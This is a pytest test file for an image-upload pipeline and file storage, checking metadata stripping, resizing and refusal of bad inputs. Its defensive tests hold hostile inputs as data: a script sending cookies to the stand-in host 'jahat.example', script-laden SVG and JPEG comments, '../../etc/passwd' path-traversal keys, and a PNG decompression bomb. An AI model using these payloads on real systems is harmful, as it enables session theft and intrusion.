"""The Pillow pipeline and the storage under it: only real photos get through, upright, re-encoded, with no
metadata; every bad input is refused with its own reason before anything is written."""
import io
from pathlib import Path

import pytest
from PIL import Image

from kim_app.media import pipeline
from kim_app.media.storage import LocalStorage, UnsafeKey, derivative_key, incoming_key
from tests.helpers import make_jpeg, png_bomb


def process(data: bytes, **kwargs) -> pipeline.Derivatives:
    return pipeline.process(io.BytesIO(data), **kwargs)


def reopen(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def png(image: Image.Image) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


# --- What comes out ---------------------------------------------------------------------------------------------------

def test_derivatives_are_upright_when_the_camera_said_orientation_6():
    # Stored 120×80, left red and right blue; orientation 6 means "turn 90° clockwise to view".
    result = process(make_jpeg(120, 80, orientation=6))
    shown = reopen(result.display)
    assert shown.size == (80, 120) == (result.width, result.height)
    top, bottom = shown.getpixel((40, 10)), shown.getpixel((40, 110))
    assert top[0] > 180 and top[2] < 80, top  # red on top
    assert bottom[2] > 180 and bottom[0] < 80, bottom  # blue below


def test_derivatives_carry_no_exif_gps_serial_icc_or_comment():
    original = make_jpeg(200, 150, orientation=6, gps=True, comment=b"dibuat oleh HP Yohanes")
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # the input does carry GPS
    result = process(original)
    for data in (result.display, result.thumb):
        image = reopen(data)
        assert image.format == "JPEG"
        assert not image.getexif()
        assert "exif" not in image.info and "icc_profile" not in image.info and "comment" not in image.info
        assert b"Exif" not in data and b"SN-0042" not in data and b"KameraHP" not in data and b"Yohanes" not in data


def test_display_fits_1280_and_thumb_320_and_small_photos_are_not_enlarged():
    big = process(make_jpeg(2000, 1500))
    assert reopen(big.display).size == (1280, 960)
    assert reopen(big.thumb).size == (320, 240)
    small = process(make_jpeg(300, 200))
    assert reopen(small.display).size == (300, 200)
    assert reopen(small.thumb).size == (300, 200)


def test_transparent_png_is_flattened_on_white_not_black():
    image = Image.new("RGBA", (100, 100), (0, 0, 0, 0))
    image.paste((0, 128, 0, 255), (0, 0, 50, 100))
    shown = reopen(process(png(image)).display)
    assert shown.mode == "RGB"
    assert min(shown.getpixel((90, 50))) > 240  # the transparent half is white
    assert shown.getpixel((10, 50))[1] > 100  # the green half stays green


def test_webp_is_taken():
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 180, 20)).save(out, "WEBP")
    result = process(out.getvalue())
    assert result.source_format == "WEBP" and reopen(result.display).size == (64, 48)


def test_the_output_does_not_depend_on_the_run():
    data = make_jpeg(400, 300, gps=True)
    assert process(data) == process(data)  # content-addressed storage relies on it


# --- What is refused, each for its own reason -------------------------------------------------------------------------

def test_truncated_jpeg_is_refused_as_damaged():
    data = make_jpeg(800, 600, quality=95)
    with pytest.raises(pipeline.DamagedImage) as refused:
        process(data[: len(data) // 2])
    assert refused.value.slug == "damaged-image"
    assert "rusak" in refused.value.message


def test_text_file_named_jpg_is_not_an_image():
    with pytest.raises(pipeline.NotAnImage) as refused:
        process(b"Ini catatan rapat desa, bukan foto.\n")
    assert refused.value.slug == "not-an-image"
    assert "bukan foto" in refused.value.message


def test_svg_is_an_unsupported_format():
    svg = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    with pytest.raises(pipeline.UnsupportedFormat) as refused:
        process(svg)
    assert refused.value.slug == "unsupported-format"
    assert "SVG" in refused.value.message and "JPEG" in refused.value.message


def test_gif_is_an_unsupported_format_named_as_such():
    out = io.BytesIO()
    Image.new("P", (10, 10)).save(out, "GIF")
    with pytest.raises(pipeline.UnsupportedFormat) as refused:
        process(out.getvalue())
    assert "GIF" in refused.value.message


def test_empty_file_is_not_an_image():
    with pytest.raises(pipeline.NotAnImage) as refused:
        process(b"")
    assert "0 byte" in refused.value.message


def test_one_by_100000_strip_is_refused_for_its_shape():
    with pytest.raises(pipeline.ExtremeAspectRatio) as refused:
        process(png(Image.new("L", (1, 100_000))))
    assert refused.value.slug == "extreme-aspect-ratio"
    assert "1×100000" in refused.value.message


@pytest.mark.parametrize("side", [8_000, 40_000])  # above our limit only; above Pillow's own as well
def test_png_decompression_bomb_is_refused_before_decoding(side):
    bomb = png_bomb(side, side)
    assert len(bomb) < 2_000
    with pytest.raises(pipeline.TooManyPixels) as refused:
        process(bomb)
    assert refused.value.slug == "too-many-pixels"
    assert "terlalu besar" in refused.value.message and "megapiksel" in refused.value.message


def test_pixel_limit_is_set_per_call():
    data = make_jpeg(120, 80)
    with pytest.raises(pipeline.TooManyPixels):
        process(data, max_pixels=120 * 80 - 1)
    assert process(data, max_pixels=120 * 80).width == 120


def test_jpeg_followed_by_html_comes_out_as_a_clean_jpeg():
    html = b"<html><body><script>document.location='https://jahat.example/'+document.cookie</script></body></html>"
    polyglot = make_jpeg(160, 120) + html
    result = process(polyglot)
    for data in (result.display, result.thumb):
        assert data.startswith(b"\xff\xd8") and data.endswith(b"\xff\xd9")
        assert b"<script" not in data and b"<html" not in data


def test_html_hidden_in_a_jpeg_comment_does_not_survive():
    result = process(make_jpeg(160, 120, comment=b"<script>alert(document.cookie)</script>"))
    assert b"<script" not in result.display and b"<script" not in result.thumb


def test_html_page_with_a_jpeg_inside_is_not_an_image():
    with pytest.raises(pipeline.NotAnImage):
        process(b"<!doctype html><html><body>" + make_jpeg(40, 30) + b"</body></html>")


# --- Storage -------------------------------------------------------------------------------------------------------

def test_storage_refuses_any_key_it_did_not_make(tmp_path):
    store = LocalStorage(tmp_path / "media")
    for key in ("../../etc/passwd", "/etc/passwd", "photos/ab/../../../etc/passwd", "photos/ab/x.jpg",
                "incoming/../secret.part", "photos/zz/" + "a" * 64 + ".jpg", ""):
        with pytest.raises(UnsafeKey):
            store.path(key)


def test_save_leaves_the_whole_file_or_nothing(tmp_path):
    store = LocalStorage(tmp_path / "media")
    key = derivative_key("ab" + "0" * 62)
    store.save(key, b"isi foto")
    assert store.read(key) == b"isi foto"
    folder = store.path(key).parent
    assert [p.name for p in folder.iterdir()] == [Path(key).name]  # no temporary file left behind


def test_append_at_cuts_bytes_that_were_never_acknowledged(tmp_path):
    store = LocalStorage(tmp_path / "media")
    key = incoming_key("0" * 32)
    store.append_at(key, 0, b"aaaa")
    store.append_at(key, 4, b"bbbbXXXX")  # the answer to this was lost …
    store.append_at(key, 4, b"cccc")  # … and the server had said received=4
    assert store.read(key) == b"aaaacccc"
    with pytest.raises(ValueError):
        store.append_at(key, 100, b"d")
